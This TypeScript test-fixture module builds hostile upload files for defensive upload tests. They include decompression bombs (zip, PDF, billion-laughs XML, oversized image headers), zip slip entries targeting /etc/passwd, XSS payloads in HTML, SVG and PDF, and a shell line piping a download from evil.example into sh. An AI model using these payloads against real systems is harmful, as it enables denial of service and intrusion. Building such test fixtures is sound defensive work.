import zlib from 'node:zlib';
import sharp from 'sharp';
import { readZip } from '../src/lib/zip';
import { buildZip, deflated, workbook, xlsxBomb, type RawEntry } from './zip-fixtures';

/**
 * Files that uploads must refuse or accept, made here byte by byte (ADR 0019): what each pretends to be and what it
 * is. Shared by the upload tests of files, pay slips and documents.
 */

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([len, body, crc]);
}

function ihdr(width: number, height: number, colourType: number) {
  const h = Buffer.alloc(13);
  h.writeUInt32BE(width, 0);
  h.writeUInt32BE(height, 4);
  h[8] = 8; // bit depth
  h[9] = colourType; // 2 RGB, 6 RGBA
  return h;
}

/** A 1×1 PNG (a real one: signature, IHDR, IDAT, IEND). */
export function png(): Buffer {
  const idat = zlib.deflateSync(Buffer.from([0, 0x1a, 0x41, 0x5b]));
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr(1, 1, 2)),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A real PNG of `width` × `height` in one colour (RGB, or RGBA with `alpha`): small to send however large it is, since
 * its rows compress to almost nothing.
 */
export function pngOf(width: number, height: number, opts: { alpha?: number } = {}): Buffer {
  const channels = opts.alpha === undefined ? 3 : 4;
  const row = Buffer.alloc(1 + width * channels);
  for (let x = 0; x < width; x++) {
    row.set([0x1a, 0x41, 0x5b], 1 + x * channels);
    if (channels === 4) row[1 + x * channels + 3] = opts.alpha!;
  }
  const idat = zlib.deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr(width, height, channels === 4 ? 6 : 2)),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * The review's kind of logo (83 bytes here): a PNG signature, a well-formed RGBA IHDR, then an IDAT of zlib garbage. pdfkit's
 * PNG decoder threw on it inside a zlib callback, where nothing catches: the whole server went down (issue 30).
 */
export function hostilePng(): Buffer {
  const garbage = Buffer.from('789c' + 'ff'.repeat(24), 'hex');
  const out = Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr(64, 64, 6)),
    pngChunk('IDAT', garbage),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
  return out;
}

/** 4 KB of bytes with no 0xFF in them (no JPEG marker): garbage after a valid header. */
const garbage = () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37 + 11) % 255));

/** A JPEG's start (SOI, a JFIF APP0) and then garbage with no marker in it: a JPEG by its signature only. */
export function jpegGarbage(): Buffer {
  return Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), garbage()]);
}

/**
 * A real 8×8 JPEG (made by sharp) whose frame header (SOF0) is rewritten to declare 65500 × 65500 pixels: 4.3
 * gigapixels, 12 GB once decoded, in a few hundred bytes. A decoder that trusts the header allocates for it.
 */
export async function jpegHugeFrame(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#1a415b' } })
    .jpeg({ progressive: false, mozjpeg: false })
    .toBuffer();
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no baseline frame header');
  jpeg.writeUInt16BE(65500, sof + 5); // height
  jpeg.writeUInt16BE(65500, sof + 7); // width
  return jpeg;
}

/** A WebP's RIFF header and a VP8 chunk of garbage. */
export function webpGarbage(): Buffer {
  const body = garbage();
  const head = Buffer.alloc(20);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(12 + body.length, 4);
  head.write('WEBPVP8 ', 8, 'latin1');
  head.writeUInt32LE(body.length, 16);
  return Buffer.concat([head, body]);
}

/** A real 8×8 lossy WebP (made by sharp) whose VP8 frame is rewritten to declare 16383 × 16383 (268 megapixels). */
export async function webpHugeFrame(): Promise<Buffer> {
  const webp = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#1a415b' } })
    .webp({ lossless: false })
    .toBuffer();
  const start = webp.indexOf(Buffer.from([0x9d, 0x01, 0x2a]), webp.indexOf(Buffer.from('VP8 ')));
  if (start < 0) throw new Error('no VP8 key frame');
  webp.writeUInt16LE(16383, start + 3); // width (14 bits, no scaling)
  webp.writeUInt16LE(16383, start + 5); // height
  return webp;
}

/**
 * A minimal PDF with one page per entry of `pages`, each showing its lines of text (a real text layer); `javascript`
 * makes the catalog run it when the file is opened (/OpenAction /JavaScript).
 */
export function pdf(
  pages: string[][],
  opts: { encrypt?: boolean; noText?: boolean; javascript?: string } = {},
): Buffer {
  const objects: string[] = [];
  const add = (body: string) => {
    objects.push(body);
    return objects.length;
  };
  const font = add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  const pageIds: number[] = [];
  const parent = objects.length + 1 + pages.length * 2;
  for (const lines of pages) {
    const text = opts.noText
      ? '0.5 g 50 50 200 200 re f'
      : `BT /F1 10 Tf 50 800 Td 12 TL ${lines.map((l) => `(${l.replace(/[()\\]/g, '\\$&')}) '`).join(' ')} ET`;
    const content = add(`<< /Length ${text.length} >>\nstream\n${text}\nendstream`);
    pageIds.push(
      add(
        `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R >>`,
      ),
    );
  }
  add(`<< /Type /Pages /Kids [${pageIds.map((p) => `${p} 0 R`).join(' ')}] /Count ${pageIds.length} >>`);
  const action = opts.javascript
    ? ` /OpenAction << /S /JavaScript /JS (${opts.javascript.replace(/[()\\]/g, '\\$&')}) >>`
    : '';
  const catalog = add(`<< /Type /Catalog /Pages ${parent} 0 R${action} >>`);
  const encrypt = opts.encrypt ? add('<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>') : null;
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root ${catalog} 0 R${encrypt ? ` /Encrypt ${encrypt} 0 R /ID [<00><00>]` : ''} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** A Windows executable renamed .pdf (MZ header). */
export const exe = () => Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(200, 0x41)]);
export const html = () =>
  Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
export const svgWithScript = () =>
  Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
/** Bytes that start like a PDF only after some junk. */
export const notQuitePdf = () => Buffer.from('junk%PDF-1.4\n');

/** A Linux executable (ELF header), renamed .png or .pdf by the tests. */
export const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, 0)]);
/** A shell script: text, so a CSV reader sees a table without the expected columns. */
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
/** A real PDF cut in half: the magic bytes, no cross-reference table, no %%EOF. */
export const truncatedPdf = () => {
  const whole = pdf([['CEDOLINO PAGA', 'ROSSI MARIO']]);
  return whole.subarray(0, Math.floor(whole.length / 2));
};
/** A PDF that runs JavaScript when opened. */
export const pdfWithJavaScript = () => pdf([['CIRCOLARE']], { javascript: 'app.alert(document.cookie)' });

/** `size` bytes that start as `head` (a real file's first bytes) and go on with filler: over a limit by its size only. */
export function padded(head: Buffer, size: number): Buffer {
  const out = Buffer.alloc(size, 0x20);
  head.copy(out, 0, 0, Math.min(head.length, size));
  return out;
}

/** The entries of a small real workbook, each deflated again honestly under the name `rename` gives it. */
async function renamedWorkbook(rename: (name: string) => string, extra: RawEntry[] = []): Promise<Buffer> {
  const base = await workbook(['Nome', 'Cognome', 'Email', 'Codice fiscale'], [['Mario', 'Rossi', 'x@y.it', '-']]);
  const entries = readZip(base, { maxTotalBytes: 10 * 1024 * 1024, maxEntries: 100 });
  return buildZip([...entries.map((e) => deflated(rename(e.name), e.data)), ...extra]);
}

/**
 * Archives that a spreadsheet upload (an XLSX is a ZIP) must refuse, each a few KB (ADR 0016: our own bounded reader,
 * 20 MiB inflated in all, 500 entries at most, no duplicate names). The bombs inflate to 32 MiB (over the 20 MiB bound)
 * from about 32 KB: a ratio of about 1000.
 */
export const hostileZips = {
  /** Honest headers: refused on the declared sizes, before inflating. */
  bomb: () => xlsxBomb(32 * 1024 * 1024),
  /** Headers that claim 4 KB: refused while inflating, at the bound. */
  lyingBomb: () => xlsxBomb(32 * 1024 * 1024, 4096),
  /** Zip slip: every part of the workbook under `../../`, and an /etc/passwd to overwrite. */
  traversal: () =>
    renamedWorkbook((n) => `../../${n}`, [deflated('../../../../../../etc/passwd', 'root::0:0::/root:/bin/sh\n')]),
  /** Absolute names, Unix and Windows. */
  absolute: () =>
    renamedWorkbook((n) => `/${n}`, [deflated('C:\\Windows\\System32\\drivers\\etc\\hosts', '127.0.0.1 x')]),
  /** A workbook inside a ZIP inside a ZIP: nothing is unpacked twice. */
  nested: async () => {
    const inner = buildZip([deflated('dipendenti.xlsx', await renamedWorkbook((n) => n))]);
    return buildZip([deflated('archivio.zip', inner)]);
  },
  /** One entry over the 500 allowed. */
  tooManyEntries: () => buildZip(Array.from({ length: 501 }, (_, i) => deflated(`xl/media/image${i}.png`, png()))),
  /** Two entries with one name (a later one would silently replace the sheet that was checked). */
  duplicateNames: () =>
    renamedWorkbook((n) => n, [deflated('xl/worksheets/sheet1.xml', '<worksheet><sheetData/></worksheet>')]),
};

const xmlText = (t: string) => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const inlineCell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${xmlText(text)}</t></is></c>`;
/** A1, B1, …, XFD1 and past it (ZZZ1…): the column letters of `n` (1-based). */
function columnName(n: number): string {
  let name = '';
  for (; n > 0; n = Math.floor((n - 1) / 26)) name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
  return name;
}
/** A table's rows as inline cells, from row `first` on. */
const inlineRows = (rows: string[][], first = 1) =>
  rows
    .map(
      (cells, i) =>
        `<row r="${first + i}">${cells.map((t, c) => inlineCell(`${columnName(c + 1)}${first + i}`, t)).join('')}</row>`,
    )
    .join('');
const SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const worksheet = (sheetData: string, before = '', doctype = '') =>
  `${SHEET_HEAD}${doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${before}<sheetData>${sheetData}</sheetData></worksheet>`;
const sharedStrings = (items: (string | Buffer)[], doctype = '') =>
  Buffer.concat([
    Buffer.from(
      `${SHEET_HEAD}${doctype}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${items.length}" uniqueCount="${items.length}">`,
    ),
    ...items.flatMap((t) => [Buffer.from('<si><t>'), Buffer.from(t), Buffer.from('</t></si>')]),
    Buffer.from('</sst>'),
  ]);

/** The other parts of a real workbook (as ExcelJS writes it), deflated again honestly; made once. */
let realParts: Promise<RawEntry[]> | undefined;
const otherParts = () =>
  (realParts ??= workbook(['Nome'], [['Mario']]).then((base) =>
    readZip(base, { maxTotalBytes: 10 * 1024 * 1024, maxEntries: 100 })
      .filter((e) => e.name !== 'xl/worksheets/sheet1.xml' && e.name !== 'xl/sharedStrings.xml')
      .map((e) => deflated(e.name, e.data)),
  ));

/**
 * A real workbook with its first sheet, and its shared strings, replaced by hand-written XML: every other part is the
 * real one's, so only the replaced parts are hostile.
 */
async function handWorkbook(sheet: string, shared?: RawEntry): Promise<Buffer> {
  return buildZip([...(await otherParts()), deflated('xl/worksheets/sheet1.xml', sheet), ...(shared ? [shared] : [])]);
}

/** "Billion laughs": ten levels of entities, each ten times the one below: lol9 is 20 GB of "haha" once expanded. */
const LAUGHS = (root: string) => {
  let dtd = '<!ENTITY lol0 "hahahahahahahahahaha">';
  for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  return `<!DOCTYPE ${root} [${dtd}]>`;
};

/**
 * Workbooks with a valid signature (a ZIP holding a real workbook's parts) and a hostile inside, each small to send.
 * `header` and `row` are an import's columns and one good row of it, so that the hostile part sits where the import
 * reads (ADR 0016: the bounded reader; issue 30).
 */
export const hostileWorkbooks = {
  /** A shared string made of the billion laughs, used by the header's first cell. */
  laughsInSharedStrings: (header: string[]) =>
    handWorkbook(
      worksheet(
        `<row r="1"><c r="A1" t="s"><v>0</v></c>${header
          .slice(1)
          .map((h, c) => inlineCell(`${columnName(c + 2)}1`, h))
          .join('')}</row>`,
      ),
      deflated('xl/sharedStrings.xml', sharedStrings(['&lol9;'], LAUGHS('sst'))),
    ),
  /** The billion laughs in the sheet itself, in an inline cell under the header. */
  laughsInSheet: (header: string[]) =>
    handWorkbook(
      worksheet(
        `${inlineRows([header])}<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>`,
        '',
        LAUGHS('worksheet'),
      ),
    ),
  /**
   * A sheet that declares the whole grid (A1:XFD1048576, every column styled) and has one cell, at XFD1048576: a
   * reader that sizes anything by the declarations, or fills the row up to its last column naively, pays for 17
   * billion cells.
   */
  farCell: () =>
    handWorkbook(
      worksheet(
        `<row r="1048576" spans="1:16384">${inlineCell('XFD1048576', 'x')}</row>`,
        '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9" customWidth="1"/></cols>',
      ),
    ),
  /** The header, then a row of 100,000 cells (A2 … past XFD, the last column Excel has). */
  wideRow: (header: string[]) =>
    handWorkbook(
      worksheet(
        `${inlineRows([header])}<row r="2">${Array.from({ length: 100_000 }, (_, c) => `<c r="${columnName(c + 1)}2"><v>1</v></c>`).join('')}</row>`,
      ),
    ),
  /** One shared string of `length` characters in the first column of `rows` rows, the rest of each row as `row`. */
  sharedString: (header: string[], row: string[], rows: number, length: number) =>
    sharedStringRows(header, row, rows, length),
  /** One shared string of 15 MB (inside the 20 MiB the ZIP may inflate to), in the first column of `rows` rows. */
  hugeSharedString: (header: string[], row: string[], rows: number) => sharedStringRows(header, row, rows, 15_000_000),
  /**
   * One shared string of 32,000 characters (a cell Excel allows) in the first column of `rows` rows: every row reads it
   * again, 2,000 rows are 64 million characters of cells from a file of a few KB, and an import's preview sends its
   * cells back.
   */
  reusedSharedString: (header: string[], row: string[], rows: number) => sharedStringRows(header, row, rows, 32_000),
};

/** The shared strings of one string of `length` characters, deflated once per length (15 MB take a while). */
const longShared = new Map<number, RawEntry>();

function sharedStringRows(header: string[], row: string[], rows: number, length: number): Promise<Buffer> {
  const data = Array.from(
    { length: rows },
    (_, i) =>
      `<row r="${i + 2}"><c r="A${i + 2}" t="s"><v>0</v></c>${row
        .slice(1)
        .map((t, c) => inlineCell(`${columnName(c + 2)}${i + 2}`, t))
        .join('')}</row>`,
  ).join('');
  let shared = longShared.get(length);
  if (!shared) {
    shared = deflated('xl/sharedStrings.xml', sharedStrings([Buffer.alloc(length, 'A')]));
    longShared.set(length, shared);
  }
  return handWorkbook(worksheet(`${inlineRows([header])}${data}`), shared);
}

/** CSV files with a hostile inside; `head` is an import's header line (with its line break), `good` a whole good file. */
export const hostileCsv = {
  /** A quote opened on the first data line and never closed: the rest of the file (up to `size`) is one field. */
  unclosedQuote: (head: string, size: number) => padTo(Buffer.from(`${head}"`), size, 'a'),
  /** The header, then one line of 100,000 columns. */
  wideRow: (head: string) => Buffer.from(`${head}${'x;'.repeat(99_999)}x\r\n`),
  /** The header, then one line of `size` bytes with no delimiter in it: one cell. */
  longLine: (head: string, size: number) =>
    Buffer.concat([padTo(Buffer.from(head), size - 2, 'a'), Buffer.from('\r\n')]),
  /** A good file with NUL bytes in its data (a UTF-16 export, or binary, looks like this). */
  nul: (good: Buffer) => Buffer.concat([good, Buffer.from('Mario\u0000;Rossi\u0000\r\n', 'latin1')]),
  /**
   * Bytes that are no UTF-8 anywhere: overlong encodings, UTF-16 surrogates, 5-byte forms, lone continuation bytes,
   * BOMs of other encodings and C1 controls, between delimiters and line breaks (the reader falls back to Latin-1).
   */
  invalidUtf8: () => {
    const junk = Buffer.from('c0afeda080f888808080c1bffeff80bf859b', 'hex');
    const line = Buffer.concat([junk, Buffer.from(';'), junk, Buffer.from(';'), junk, Buffer.from('\r\n')]);
    return Buffer.concat(Array.from({ length: 50 }, () => line));
  },
};

/** `head` followed by `fill` up to `size` bytes. */
function padTo(head: Buffer, size: number, fill: string): Buffer {
  const out = Buffer.alloc(size, fill);
  head.copy(out);
  return out;
}

/**
 * The review's hostile pay-slip import (issue 30): `pages` pages that all draw one Flate content stream which decodes
 * to `decodedMb` MB of harmless operators ("q Q", a thousand times smaller compressed), so that every page costs the
 * whole stream again. With 1.5 MB of file and 3 GB decoded, a reader without limits needs gigabytes and hours.
 */
export function pdfBomb(pages: number, decodedMb: number): Buffer {
  const unit = Buffer.alloc(1024 * 1024, 'q Q\n');
  const deflate = zlib.deflateSync(Buffer.concat(Array.from({ length: Math.min(decodedMb, 64) }, () => unit)), {
    level: 9,
  });
  // Past 64 MB the stream is made of the same compressed block repeated, each a full flush: zlib reads it as one stream.
  const body = decodedMb <= 64 ? deflate : repeatedDeflate(unit, decodedMb);
  const objects: Buffer[] = [];
  const add = (b: Buffer | string) => objects.push(typeof b === 'string' ? Buffer.from(b, 'latin1') : b);
  add('<< /Type /Catalog /Pages 2 0 R >>');
  const kids = Array.from({ length: pages }, (_, i) => `${i + 4} 0 R`).join(' ');
  add(`<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`);
  add(
    Buffer.concat([
      Buffer.from(`<< /Length ${body.length} /Filter /FlateDecode >>\nstream\n`),
      body,
      Buffer.from('\nendstream'),
    ]),
  );
  for (let i = 0; i < pages; i++) add('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>');
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), o, Buffer.from('\nendobj\n')]);
    offsets.push(offset);
    offset += chunk.length;
    parts.push(chunk);
  });
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) xref += `${String(o).padStart(10, '0')} 00000 n \n`;
  xref += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`;
  parts.push(Buffer.from(xref));
  return Buffer.concat(parts);
}

/** A zlib stream of `mb` copies of `unit` (1 MB) without holding them: one raw block compressed once, repeated. */
function repeatedDeflate(unit: Buffer, mb: number): Buffer {
  const header = Buffer.from([0x78, 0xda]);
  const block = zlib.deflateRawSync(unit, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const last = zlib.deflateRawSync(Buffer.alloc(0), { finishFlush: zlib.constants.Z_FINISH });
  // The Adler-32 checksum is left wrong on purpose (zlib checks it only at the very end, and readers stop earlier).
  return Buffer.concat([header, ...Array.from({ length: mb }, () => block), last, Buffer.alloc(4)]);
}
